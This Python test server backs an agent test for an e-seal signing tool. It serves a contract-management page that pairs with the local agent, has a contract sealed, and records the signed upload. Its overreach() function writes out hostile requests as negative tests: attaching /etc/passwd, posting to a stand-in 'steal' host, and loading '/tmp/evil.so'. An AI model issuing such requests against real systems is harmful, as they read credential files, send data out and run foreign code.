"""A business system for tests/web/agent_test.sh: its page (which signs through eseal's agent
with web/agent/hrss.js), the contract it hands to the agent, and the endpoint that receives the
signed file. Keeps each form it receives in DIR/received-N/ (body, content-type, cookie). Prints
its port, then serves until killed.
The page takes the agent's address from its query: /?agent=http://127.0.0.1:PORT; its button
runs the whole flow (README: "Try it").
Usage: business.py DIR CONTRACT.pdf [PORT]"""
import http.server
import pathlib
import sys

folder = pathlib.Path(sys.argv[1])
contract = pathlib.Path(sys.argv[2]).read_bytes()

PAGE = """<!doctype html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>合同管理系统</title>
</head>
<body><h1>合同管理系统</h1>
<button id="sign" type="button">用USB Key盖章并提交</button><pre id="log"></pre>
<script>
const AGENT = new URLSearchParams(location.search).get('agent');
const sdk = new Promise((resolve, reject) => {
  const script = document.createElement('script');
  script.src = AGENT + '/viewer/hrss.js';
  script.onload = resolve;
  script.onerror = reject;
  document.head.append(script);
});
function log(line) { document.getElementById('log').textContent += line + '\\n'; }
// Pairs (once), opens the contract from this system, has the person put the seal, and posts
// the signed contract back with a field and the session's cookie.
async function signFlow() {
  await sdk;
  const hrss = await HRSS.connect({ agent: AGENT, name: '合同管理系统',
                                    onWaiting: () => log('waiting for the person') });
  log('paired');
  const r = {};
  r.opened = await hrss.HRSSOpenFileByPath(location.origin + '/contract.pdf', 1);
  if (r.opened !== 1) throw new Error('HRSSOpenFileByPath: ' + JSON.stringify(hrss.lastError));
  r.pages = await hrss.ESEAL_HRSSPageCount();
  r.inserted = await hrss.HRSSInsertESeal();
  r.insertError = hrss.lastError;
  r.signed = await hrss.HRSSIsFileSigned();
  r.info = JSON.parse(await hrss.HRSSGetSignInfo() || '[]');
  r.init = await hrss.HRSSHttpInit();
  r.field = await hrss.HRSSHttpAddPostString('title', '劳动合同');
  r.file = await hrss.HRSSHttpAddPostCurrFile('file', '');
  r.posted = await hrss.HRSSHttpPost(location.origin + '/receive', 'JSESSIONID=agent-test');
  r.postError = hrss.lastError;
  log('posted ' + r.posted);
  return r;
}
// A login with the USB key (DB4403 LOGIN-04): the page has the key sign the statement the
// platform gave it (here made up) and sends the signature back with the certificate's serial.
async function loginFlow(statementB64) {
  await sdk;
  const hrss = await HRSS.connect({ agent: AGENT });
  return {
    serial: await hrss.ESEAL_HRSSGetCertSerial(),
    certificate: await hrss.ESEAL_HRSSGetCertificate(),
    signature: await hrss.ESEAL_HRSSSignData(statementB64),
    error: hrss.lastError,
  };
}
document.getElementById('sign').addEventListener('click', () => {
  signFlow().then((r) => log(JSON.stringify(r)), (e) => log('failed: ' + e.message));
});
// What a page may not make the agent do.
async function overreach() {
  await sdk;
  const hrss = await HRSS.connect({ agent: AGENT });
  const r = {};
  r.localFile = await hrss.call('HRSSHttpAddPostFile', 'f', '/etc/passwd');
  r.elsewhere = await hrss.call('HRSSHttpPost', 'http://192.0.2.1/steal', '');
  r.library = await hrss.call('ESEAL_HRSSSetKey', '/tmp/evil.so', '').catch((e) => e.status);
  r.badArgs = await hrss.call('HRSSGoToPage', 'two').catch((e) => e.status);
  return r;
}
</script></body></html>
"""


class Handler(http.server.BaseHTTPRequestHandler):
    def send(self, status, content_type, body):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path.split("?")[0] == "/":
            self.send(200, "text/html; charset=utf-8", PAGE.encode())
        elif self.path == "/contract.pdf":
            self.send(200, "application/pdf", contract)
        else:
            self.send(404, "text/plain", b"no such page")

    def do_POST(self):
        length = int(self.headers.get("Content-Length", "0"))
        body = self.rfile.read(length)
        n = len(list(folder.glob("received-*"))) + 1
        out = folder / f"received-{n}"
        out.mkdir(parents=True)
        (out / "content-type").write_text(self.headers.get("Content-Type", ""))
        (out / "cookie").write_text(self.headers.get("Cookie", ""))
        (out / "body").write_bytes(body)
        self.send(200, "text/plain", b"ok")

    def log_message(self, *args):
        pass


# Threads: a browser keeps idle connections open (preconnects), which would hold up the agent.
port = int(sys.argv[3]) if len(sys.argv) > 3 else 0
server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
